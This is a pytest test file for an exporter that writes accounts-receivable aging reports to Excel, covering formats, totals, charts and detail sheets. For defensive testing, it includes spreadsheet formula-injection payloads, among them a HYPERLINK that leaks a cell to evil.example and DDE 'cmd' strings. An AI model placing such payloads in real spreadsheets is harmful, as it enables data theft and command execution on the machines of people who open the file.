"""`arctl aging -o aging.xlsx`: the workbook an accountant opens — numbers as numbers, dates as dates, no formula
anywhere (whatever a customer is called), frozen header, autofilter, bold totals, fitted widths, a chart."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from arctl.model import AgingItem, AgingRate, AgingReport, AgingRow
from arctl.render.aging_xlsx import key_value_sheet, write_aging_xlsx

AS_OF = dt.date(2026, 11, 26)
LABELS = ("current", "1-30", "31-60", "61-90", "90+")
# Names that a spreadsheet would run as formulas (OWASP, CSV injection): =, +, -, @, tab and carriage return first.
HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A2,"Klik hier")', "+32 2 555 01 01", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def row(customer_id, name, currency, buckets, invoices=1, credits=0):
    return AgingRow(customer_id, name, currency, sum(buckets), tuple(buckets), invoices, credits)


def report(customers=None, detail=(), **extra) -> AgingReport:
    """Two Belgian customers in EUR (one with a credit note of € 121,00), one Japanese customer in JPY."""
    customers = customers or (
        row("K0001", "Bakkerij Peeters BV", "EUR", (-12100, 121000, 0, 48400, 0), invoices=3, credits=-12100),
        row("K0002", "Garage Janssens BVBA", "EUR", (0, 0, 30250, 0, 99999), invoices=2),
        row("J0001", "Sakura Trading KK", "JPY", (0, 150000, 0, 0, 0)),
    )
    totals = []
    for currency in dict.fromkeys(line.currency for line in customers):
        mine = [line for line in customers if line.currency == currency]
        totals.append(row(None, None, currency, [sum(line.buckets[i] for line in mine) for i in range(5)],
                          sum(line.invoices for line in mine), sum(line.credits for line in mine)))
    return AgingReport(AS_OF, "due", LABELS, tuple(customers), tuple(totals), detail=tuple(detail), **extra)


DETAIL = (
    AgingItem("K0001", "EUR", "invoice", "2026-00412", dt.date(2026, 10, 1), dt.date(2026, 10, 31), 26, 1, 121000),
    AgingItem("K0001", "EUR", "credit_note", "CN-2026-007", dt.date(2026, 11, 20), dt.date(2026, 12, 20), -24, 0,
              -12100),
    AgingItem("K0001", "EUR", "invoice", "2026-00301", dt.date(2026, 8, 1), dt.date(2026, 8, 31), 87, 3, 48400),
    AgingItem("K0002", "EUR", "payment", "BE68539007547034-000123", dt.date(2026, 11, 3), None, None, None, -5000),
)


def written(tmp_path: Path, aging: AgingReport, **options):
    path = tmp_path / "aging.xlsx"
    notices = write_aging_xlsx(path, aging, **options)
    return load_workbook(path), notices, path


def xstring(text: str) -> str:
    """A string as Excel reads it: OOXML writes a control character such as CR as `_x000D_` (ECMA-376 part 1,
    22.9.2.19 ST_Xstring), which Excel turns back into the character and openpyxl leaves as written."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def every_cell(book):
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            yield from line


def test_amounts_are_numbers_in_the_currencys_format_and_counts_are_numbers(tmp_path):
    book, _, _ = written(tmp_path, report())
    sheet = book["Summary"]

    assert [c.value for c in sheet[1]] == ["customer_id", "name", "currency", *LABELS, "total", "credits",
                                           "invoices"]
    first = sheet[2]
    # € -121,00 current (the credit note), € 1.210,00 in 1-30, € 484,00 in 61-90: total € 1.573,00
    assert [c.value for c in first[3:10]] == [-121, 1210, 0, 484, 0, 1573, -121]
    assert all(c.data_type == "n" for c in first[3:11])
    assert first[3].number_format == "#,##0.00;-#,##0.00"
    assert first[10].value == 3
    yen = sheet[4]   # the yen has no minor unit: ¥150,000 is 150000, shown without decimals
    assert (yen[0].value, yen[4].value, yen[4].number_format) == ("J0001", 150000, "#,##0;-#,##0")


def test_each_currency_has_a_bold_total_row_below_a_blank_row(tmp_path):
    book, _, _ = written(tmp_path, report())
    sheet = book["Summary"]

    assert all(c.value is None for c in sheet[5])
    euro, yen = sheet[6], sheet[7]
    # EUR: -121,00 + 1.210,00 + 302,50 + 484,00 + 999,99 = 2.875,49
    assert [euro[0].value, euro[2].value, euro[8].value, euro[10].value] == ["TOTAL", "EUR", 2875.49, 5]
    assert [yen[0].value, yen[2].value, yen[8].value] == ["TOTAL", "JPY", 150000]
    assert all(c.font.b for c in euro if c.value is not None)
    assert not sheet["A2"].font.b


def test_the_header_is_frozen_filterable_and_the_columns_fit_the_names(tmp_path):
    book, _, _ = written(tmp_path, report())
    sheet = book["Summary"]

    assert sheet.freeze_panes == "C2"              # header row, and id + name, stay in view
    assert sheet.auto_filter.ref == "A1:K4"        # the customers only: sorting never mixes in the totals
    assert sheet["A1"].font.b
    assert sheet.column_dimensions["B"].width >= len("Garage Janssens BVBA")
    assert sheet.column_dimensions["B"].width <= 60


def test_the_summary_has_a_stacked_column_chart_of_the_buckets_per_currency(tmp_path):
    book, _, path = written(tmp_path, report())

    assert len(book["Summary"]._charts) == 1
    with zipfile.ZipFile(path) as archive:
        chart = archive.read("xl/charts/chart1.xml").decode("utf-8")
    assert '<c:barDir val="col"/>' in chart and '<c:grouping val="stacked"/>' in chart
    # one series per bucket, over the currencies of the two total rows (rows 6 and 7, columns D to H)
    assert chart.count("<c:ser>") == 5
    assert "Summary!$D$6:$D$7" in chart and "Summary!$H$6:$H$7" in chart and "Summary!$C$6:$C$7" in chart


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_is_a_formula_whatever_a_customer_is_called(tmp_path, name):
    hostile = report(customers=(row("=1+1", name, "EUR", (0, 100, 0, 0, 0)),),
                     detail=(AgingItem("=1+1", "EUR", "invoice", "=cmd|' /C calc'!A0", None, AS_OF, 0, 0, 100),))
    book, _, path = written(tmp_path, hostile)

    assert not [c.coordinate for c in every_cell(book) if c.data_type == "f"]
    assert xstring(book["Summary"]["B2"].value) == name and book["Summary"]["B2"].data_type == "s"
    assert book["Summary"]["B2"].quotePrefix, "Excel keeps it text when the cell is edited"
    assert book["Detail"]["E2"].value == "=cmd|' /C calc'!A0" and book["Detail"]["E2"].data_type == "s"
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(re.search(r"<f[ >]", xml) for xml in sheets), "no formula element in any sheet"


def test_an_ordinary_name_carries_no_quote_prefix(tmp_path):
    book, _, _ = written(tmp_path, report())

    assert book["Summary"]["B2"].value == "Bakkerij Peeters BV" and not book["Summary"]["B2"].quotePrefix


def test_the_detail_sheet_lists_each_item_with_real_dates(tmp_path):
    book, notices, _ = written(tmp_path, report(detail=DETAIL))
    sheet = book["Detail"]

    assert book.sheetnames == ["Summary", "Detail", "Report"]
    assert [c.value for c in sheet[1]] == ["customer_id", "name", "currency", "kind", "reference", "issue_date",
                                           "due_date", "days", "bucket", "amount"]
    invoice, credit = sheet[2], sheet[3]
    assert invoice[5].is_date and invoice[5].value == dt.datetime(2026, 10, 1)
    assert invoice[6].is_date and invoice[6].value == dt.datetime(2026, 10, 31)
    assert invoice[6].number_format == "yyyy-mm-dd"
    assert [invoice[1].value, invoice[7].value, invoice[8].value, invoice[9].value] == \
        ["Bakkerij Peeters BV", 26, "1-30", 1210]
    assert [credit[3].value, credit[9].value] == ["credit note", -121]
    payment = sheet[5]   # an unapplied payment has no due date and no bucket
    assert [payment[3].value, payment[6].value, payment[8].value, payment[9].value] == \
        ["unapplied payment", None, "undated", -50]
    assert sheet.freeze_panes == "C2" and sheet.auto_filter.ref == "A1:J5"
    assert notices == []


def test_without_items_there_is_no_detail_sheet(tmp_path):
    book, _, _ = written(tmp_path, report())

    assert book.sheetnames == ["Summary", "Report"]


def test_detail_beyond_the_row_limit_stops_at_the_limit_with_a_note_and_a_notice(tmp_path):
    # Excel's limit is 1,048,576 rows; the same rule with a limit of 3 rows: the header and two items
    book, notices, _ = written(tmp_path, report(detail=DETAIL), row_limit=3)
    sheet = book["Detail"]

    assert sheet.max_row == 3
    assert [sheet["E2"].value, sheet["E3"].value] == ["2026-00412", "CN-2026-007"]
    assert notices == ["the Detail sheet stops at Excel's limit of 3 rows: it lists 2 of the 4 open items; "
                       "`arctl aging --detail --format csv -o aging.csv` lists them all"]
    assert sheet["A1"].comment is not None and "--format csv" in sheet["A1"].comment.text
    report_sheet = {r[0].value: r[1].value for r in book["Report"].iter_rows(min_row=2)}
    assert report_sheet["notice"] == notices[0]


def test_the_report_sheet_says_how_the_report_was_made_and_the_rates_it_used(tmp_path):
    converted = report(converted_to="EUR", rates=(AgingRate("USD", "0.9215"), AgingRate("GBP", "1.1702")))
    book, _, _ = written(tmp_path, converted)

    pairs = {r[0].value: r[1] for r in book["Report"].iter_rows(min_row=2)}
    assert pairs["as of"].is_date and pairs["as of"].value == dt.datetime(2026, 11, 26)
    assert pairs["aged by"].value == "days past the due date"
    assert pairs["converted to"].value == "EUR"
    assert pairs["rate: 1 USD ="].value == pytest.approx(0.9215) and pairs["rate: 1 USD ="].data_type == "n"
    assert pairs["customers"].value == 3


def test_a_kpi_sheet_is_one_more_sheet_given_as_label_value_pairs(tmp_path):
    kpis = key_value_sheet("KPIs", [("DSO (days)", 41.5), ("overdue share", "38.2 %"), ("overdue", (287549, "EUR")),
                                    ("period end", dt.date(2026, 11, 30)), ("=worst customer", "=K0002")])
    book, _, _ = written(tmp_path, report(), extra=[kpis])

    assert book.sheetnames == ["Summary", "Report", "KPIs"]
    values = {r[0].value: r[1] for r in book["KPIs"].iter_rows(min_row=2)}
    assert values["DSO (days)"].value == 41.5 and values["DSO (days)"].data_type == "n"
    assert values["overdue"].value == 2875.49 and values["overdue"].number_format == "#,##0.00;-#,##0.00"
    assert values["period end"].is_date
    assert values["=worst customer"].value == "=K0002" and values["=worst customer"].data_type == "s"


def test_the_same_report_gives_the_same_bytes(tmp_path):
    first = tmp_path / "a.xlsx"
    second = tmp_path / "b.xlsx"
    write_aging_xlsx(first, report(detail=DETAIL))
    write_aging_xlsx(second, report(detail=DETAIL))

    assert first.read_bytes() == second.read_bytes()


def test_a_report_with_nothing_open_still_writes_a_workbook_without_a_chart(tmp_path):
    book, notices, _ = written(tmp_path, AgingReport(AS_OF, "due", LABELS, (), ()))

    assert book.sheetnames == ["Summary", "Report"] and notices == []
    assert book["Summary"].max_row == 1 and not book["Summary"]._charts
